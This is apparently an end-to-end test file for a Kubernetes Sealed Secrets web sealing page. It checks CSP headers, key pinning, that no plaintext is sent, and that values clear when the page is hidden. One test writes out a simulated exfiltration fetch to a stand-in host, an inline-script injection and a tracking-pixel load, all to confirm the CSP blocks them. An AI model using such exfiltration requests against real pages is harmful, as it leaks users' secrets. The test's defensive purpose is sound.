/// <reference lib="dom" />
import { join } from 'node:path';
import { parse } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  acquireClusterLock,
  coreApi,
  createTestNamespace,
  e2eCluster,
  KUBE_SYSTEM_CONTROLLER,
} from '../../helpers/index.js';
import { getSecret, waitForSynced, type SealedSecret } from '../controller/support.js';
import { applySealedSecret, startOurController, type ProxiedController } from '../kubeseal/support.js';
import {
  DESKTOP,
  EXPECTED_CSP,
  PHONE,
  fillAndSeal,
  launchBrowser,
  testOutputDir,
  type Browser,
} from './browser.js';

// The sealing page as users reach it: `kubectl proxy` (here: the API server itself, with the bearer token that
// kubectl proxy would add) and the controller's Service behind the API server's service proxy, unnamed port form.
// The controller runs in kube-system as `sealed-secrets-controller`, the names kubeseal and the issue use.

const PREFIX = '/api/v1/namespaces/kube-system/services/http:sealed-secrets-controller:/proxy/';
/** Every byte value once, so a single flipped or re-encoded byte shows. */
const BINARY = Buffer.from(Array.from({ length: 256 }, (_, i) => i));
const TYPED = ' p@ss w0rd, not trimmed \n';

let ns: string;
let controller: ProxiedController;
let browser: Browser;
let pageUrl: string;
let releaseLock: (() => void) | undefined;

beforeAll(async () => {
  releaseLock = await acquireClusterLock(KUBE_SYSTEM_CONTROLLER);
  ns = await createTestNamespace({ prefix: 'web-page-', deleteAfterTest: false });
  // An unnamed Service port, as in upstream's controller.yaml: the `http:<name>:` form of the URL picks it. (The
  // chart names the port `http`; its URL ends in `http:sealed-secrets-controller:http/proxy/`.)
  controller = await startOurController('kube-system', {
    args: ['--web-ui', `--additional-namespaces=${ns}`],
    portName: '',
  });
  const cluster = e2eCluster();
  pageUrl = `${cluster.server}${PREFIX}`;
  browser = await launchBrowser({ headers: { Authorization: `Bearer ${cluster.token}` } });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await controller?.stop();
  if (ns !== undefined)
    await coreApi()
      .deleteNamespace({ name: ns })
      .catch(() => undefined);
  releaseLock?.();
});

/** Paths of the recorded requests, relative to the proxy prefix (`<page>` for the page itself). */
function requestedPaths(from = 0): string[] {
  return browser.requests.slice(from).map((r) => {
    const path = new URL(r.url).pathname;
    return path === PREFIX ? '<page>' : path.startsWith(PREFIX) ? path.slice(PREFIX.length) : r.url;
  });
}

/** No request (URL, headers or body) carries the plaintext, raw or in a usual encoding. */
function expectNoPlaintextSent(from: number, plaintexts: readonly Buffer[]): void {
  const needles = plaintexts.flatMap((p) => [
    p.toString('latin1'),
    p.toString('base64'),
    encodeURIComponent(p.toString('utf8')),
  ]);
  for (const request of browser.requests.slice(from)) {
    const haystack = [request.url, JSON.stringify(request.headers), request.body?.toString('latin1') ?? ''];
    for (const needle of needles) for (const text of haystack) expect(text.includes(needle)).toBe(false);
  }
}

describe('the sealing page through the API server’s service proxy', () => {
  it('is served with its CSP, seals typed and binary values, and the controller unseals them', async () => {
    const { page } = browser;
    const from = browser.requests.length;
    const response = await page.goto(pageUrl);
    expect(response?.status()).toBe(200);
    expect(response?.headers()['content-security-policy']).toBe(EXPECTED_CSP);
    expect(response?.headers()['x-content-type-options']).toBe('nosniff');
    await expect.poll(() => page.textContent('#cert-status')).toContain('Ready');
    expect(await page.textContent('#page-origin')).toBe(new URL(pageUrl).origin);
    expect(await page.textContent('#cert-source')).toBe(`${pageUrl}v1/cert.pem`);
    expect(await page.textContent('#cert-fingerprint')).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
    expect(await page.textContent('#cert-expiry')).toMatch(
      /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ \(\d+ days left\)$/,
    );

    const yamlText = await fillAndSeal(page, {
      name: 'from-the-browser',
      namespace: ns,
      items: [{ key: 'password', typed: TYPED }, { file: { name: 'blob.bin', bytes: BINARY } }],
      type: 'Opaque',
      labels: 'app=web\nteam=payments',
      annotations: 'note=sealed in a browser: <ok> & fine',
    });

    // Plaintext fields are cleared once sealed; names and labels stay.
    expect(await page.inputValue('#item-0-value')).toBe('');
    expect(await page.$eval('#item-1-file', (input) => (input as HTMLInputElement).files?.length)).toBe(0);
    expect(await page.inputValue('#name')).toBe('from-the-browser');

    // Only the page, its assets and the certificate were requested, all GETs without a body, none with a value.
    const paths = requestedPaths(from);
    expect([...new Set(paths)].sort()).toEqual([
      '<page>',
      'ui/app.css',
      'ui/app.js',
      'ui/icon.svg',
      'v1/cert.pem',
    ]);
    for (const request of browser.requests.slice(from)) {
      expect(request, request.url).toMatchObject({ method: 'GET', body: null });
      expect(request.failure, request.url).toBeUndefined();
    }
    expectNoPlaintextSent(from, [Buffer.from(TYPED), BINARY]);

    // The output is kubeseal's YAML; applied as is, our controller unseals it to exactly the bytes given.
    expect(yamlText.startsWith('---\napiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\n')).toBe(true);
    const ss = parse(yamlText) as SealedSecret;
    expect(ss.spec.template?.metadata?.labels).toEqual({ app: 'web', team: 'payments' });
    await applySealedSecret(ss);
    const synced = await waitForSynced(ns, 'from-the-browser', (c) => c.status !== 'Unknown', 45_000);
    expect(synced.status?.conditions?.[0], controller.exposure.logsTail(20)).toMatchObject({
      status: 'True',
    });
    const secret = await getSecret(ns, 'from-the-browser');
    expect(secret?.type).toBe('Opaque');
    expect(secret?.metadata.annotations?.['note']).toBe('sealed in a browser: <ok> & fine');
    expect(Buffer.from(secret?.data?.['password'] ?? '', 'base64').toString()).toBe(TYPED);
    expect(Buffer.from(secret?.data?.['blob.bin'] ?? '', 'base64').equals(BINARY)).toBe(true);

    // JSON: the same SealedSecret (same ciphertexts), rendered again without sealing again.
    await page.check('input[name=format][value=json]');
    await expect.poll(async () => (await page.inputValue('#output')).startsWith('{')).toBe(true);
    const json = JSON.parse(await page.inputValue('#output')) as SealedSecret;
    expect(json.spec.encryptedData).toEqual(ss.spec.encryptedData);

    const out = testOutputDir();
    await page.setViewportSize(DESKTOP);
    await page.screenshot({ path: join(out, 'sealing-page-desktop.png'), fullPage: true });
    await page.setViewportSize(PHONE);
    await page.screenshot({ path: join(out, 'sealing-page-phone.png'), fullPage: true });
    // Nothing wider than the phone's viewport (no sideways scrolling).
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
    await page.setViewportSize(DESKTOP);
  });

  it('raw mode: one value like kubeseal --raw, which unseals once put into a SealedSecret', async () => {
    const { page } = browser;
    await page.goto(pageUrl);
    await page.waitForSelector('#seal:not([disabled])');
    await page.check('input[name=mode][value=raw]');
    await page.fill('#name', '');
    await page.fill('#namespace', '');
    await page.selectOption('#scope', 'cluster-wide');
    await page.fill('#raw-value', 'raw value\twith a tab');
    await page.click('#seal');
    await page.waitForSelector('#output-section:not([hidden])');
    const raw = await page.inputValue('#output');
    expect(raw).toMatch(/^[A-Za-z0-9+/]+={0,2}$/);
    expect(await page.inputValue('#raw-value')).toBe('');
    await applySealedSecret({
      metadata: {
        name: 'raw-from-the-browser',
        namespace: ns,
        annotations: { 'sealedsecrets.bitnami.com/cluster-wide': 'true' },
      },
      spec: { encryptedData: { value: raw } },
    });
    const synced = await waitForSynced(ns, 'raw-from-the-browser', (c) => c.status !== 'Unknown', 45_000);
    expect(synced.status?.conditions?.[0]).toMatchObject({ status: 'True' });
    const secret = await getSecret(ns, 'raw-from-the-browser');
    expect(Buffer.from(secret?.data?.['value'] ?? '', 'base64').toString()).toBe('raw value\twith a tab');
  });

  it('enforces its CSP: no request to another origin, no inline script', async () => {
    const { page } = browser;
    await page.goto(pageUrl);
    await page.waitForSelector('#seal:not([disabled])');
    const from = browser.requests.length;
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const fetched = await fetch('http://127.0.0.1:9/exfiltrate?v=secret').then(
        () => 'sent',
        () => 'blocked',
      );
      const script = document.createElement('script');
      script.textContent = 'document.body.dataset.inline = "ran"';
      document.head.append(script);
      const image = new Image();
      image.src = 'http://127.0.0.1:9/pixel.gif';
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { fetched, inline: document.body.dataset['inline'] ?? 'blocked', violations };
    });
    expect(result.fetched).toBe('blocked');
    expect(result.inline).toBe('blocked');
    expect(result.violations).toEqual(expect.arrayContaining(['connect-src', 'script-src-elem', 'img-src']));
    // The browser may announce the image request, but the CSP stops it before it leaves.
    const outside = browser.requests.slice(from).filter((r) => r.url.includes('127.0.0.1:9'));
    for (const request of outside) expect(request.failure, request.url).toMatch(/csp/i);
  });

  it('pins the key: a link with another fingerprint blocks sealing, the right one allows it', async () => {
    const { page } = browser;
    await page.goto(`${pageUrl}#fingerprint=${encodeURIComponent('SHA256:not-this-key')}`);
    await expect.poll(() => page.textContent('#pin-status')).toContain('does NOT match');
    expect(await page.isDisabled('#seal')).toBe(true);
    await page.fill('#pin', (await page.textContent('#cert-fingerprint')) ?? '');
    await expect
      .poll(() => page.textContent('#pin-status'))
      .toBe('The certificate matches the expected fingerprint.');
    expect(await page.isDisabled('#seal')).toBe(false);
  });

  it('clears typed values when the page is hidden (tab closed, navigation, back/forward cache)', async () => {
    const { page } = browser;
    await page.goto(pageUrl);
    await page.waitForSelector('#seal:not([disabled])');
    await page.fill('#item-0-key', 'k');
    await page.fill('#item-0-value', 'typed but never sealed');
    await page.check('input[name=mode][value=raw]');
    await page.fill('#raw-value', 'raw typed but never sealed');
    await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })));
    expect(await page.inputValue('#item-0-value')).toBe('');
    expect(await page.inputValue('#raw-value')).toBe('');
    // And for real: away and back.
    await page.fill('#raw-value', 'typed again');
    await page.goto('about:blank');
    await page.goBack();
    await page.waitForSelector('#raw-value', { state: 'attached' });
    expect(await page.inputValue('#raw-value')).toBe('');
    expect(await page.inputValue('#item-0-value')).toBe('');
  });
});
